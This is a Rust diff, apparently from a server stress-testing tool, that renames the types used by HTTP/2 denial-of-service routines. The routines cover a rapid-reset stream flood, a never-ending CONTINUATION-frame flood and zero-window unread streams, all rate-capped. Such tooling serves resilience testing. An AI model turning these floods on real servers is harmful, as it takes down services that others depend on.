@@ -3,8 +3,8 @@
 use std::io;
 use std::sync::Arc;
 
+use super::super::attack_context::{AttackContext, Throttle};
 use super::super::frames::{CONTINUATION, END_STREAM, Frames, HEADERS, INITIAL_WINDOW, head};
-use super::super::ground::{Ground, Pace};
 use super::{LARGEST_FILE, METRICS};
 
 const CONNECTIONS: u64 = 8;
@@ -25,14 +25,14 @@ pub(in super::super) fn reset_rate() -> String {
     format!("{CONNECTIONS} connections, {RESETS_PER_SECOND} streams a second at most")
 }
 
-pub(in super::super) async fn rapid_reset(ground: Arc<Ground>) {
-    ground.lanes(CONNECTIONS, CONNECTIONS, one_that_resets).await;
+pub(in super::super) async fn rapid_reset(context: Arc<AttackContext>) {
+    context.lanes(CONNECTIONS, CONNECTIONS, one_that_resets).await;
 }
 
-async fn one_that_resets(ground: Arc<Ground>, _: u64) -> io::Result<()> {
-    let mut peer = ground.dial().await?;
+async fn one_that_resets(context: Arc<AttackContext>, _: u64) -> io::Result<()> {
+    let mut peer = context.dial().await?;
     peer.send(&Frames::opening(&[]).0).await?;
-    let path = ground.either("/", "/health/live");
+    let path = context.either("/", "/health/live");
     let mut stream = 1;
     let block = || {
         let mut frames = Frames::default();
@@ -42,7 +42,7 @@ async fn one_that_resets(ground: Arc<Ground>, _: u64) -> io::Result<()> {
         }
         frames.0
     };
-    peer.flood(Pace::new(RESETS_PER_SECOND / CONNECTIONS), RESETS_TOGETHER, block).await
+    peer.flood(Throttle::new(RESETS_PER_SECOND / CONNECTIONS), RESETS_TOGETHER, block).await
 }
 
 pub(in super::super) fn continuation_rate() -> String {
@@ -50,12 +50,12 @@ pub(in super::super) fn continuation_rate() -> String {
     format!("{CONNECTIONS} connections, {megabytes} MB a second at most")
 }
 
-pub(in super::super) async fn continuations(ground: Arc<Ground>) {
-    ground.lanes(CONNECTIONS, CONNECTIONS, one_without_end).await;
+pub(in super::super) async fn continuations(context: Arc<AttackContext>) {
+    context.lanes(CONNECTIONS, CONNECTIONS, one_without_end).await;
 }
 
-async fn one_without_end(ground: Arc<Ground>, number: u64) -> io::Result<()> {
-    let mut peer = ground.dial().await?;
+async fn one_without_end(context: Arc<AttackContext>, number: u64) -> io::Result<()> {
+    let mut peer = context.dial().await?;
     let begin = Frames::opening(&[]).frame(HEADERS, END_STREAM, 1, &head(false, "/", None));
     peer.send(&begin.0).await?;
     // On every second connection the parts are empty: they never become too much of a head.
@@ -63,7 +63,7 @@ async fn one_without_end(ground: Arc<Ground>, number: u64) -> io::Result<()> {
     let one = Frames::default().frame(CONTINUATION, 0, 1, &part).0;
     let block = one.repeat(CONTINUATION_BYTES / one.len());
     let per_second = CONTINUATION_BYTES_PER_SECOND / CONNECTIONS / CONTINUATION_BYTES as u64;
-    peer.flood(Pace::new(per_second), 1, || block.clone()).await
+    peer.flood(Throttle::new(per_second), 1, || block.clone()).await
 }
 
 /// A part of a head: one header over and over.
@@ -78,14 +78,14 @@ pub(in super::super) fn unread_rate() -> String {
     )
 }
 
-pub(in super::super) async fn unread(ground: Arc<Ground>) {
-    let count = ground.either(UNREAD, UNREAD_OF_OPERATORS);
-    ground.lanes(count, UNREAD, one_unread).await;
+pub(in super::super) async fn unread(context: Arc<AttackContext>) {
+    let count = context.either(UNREAD, UNREAD_OF_OPERATORS);
+    context.lanes(count, UNREAD, one_unread).await;
 }
 
-async fn one_unread(ground: Arc<Ground>, _: u64) -> io::Result<()> {
-    let mut peer = ground.dial().await?;
-    let path = ground.either(LARGEST_FILE, METRICS);
+async fn one_unread(context: Arc<AttackContext>, _: u64) -> io::Result<()> {
+    let mut peer = context.dial().await?;
+    let path = context.either(LARGEST_FILE, METRICS);
     let opening = Frames::opening(&[(INITIAL_WINDOW, 0)]);
     let all = (0..UNREAD_STREAMS).fold(opening, |frames, n| frames.get(n * 2 + 1, path));
     peer.send(&all.0).await?;
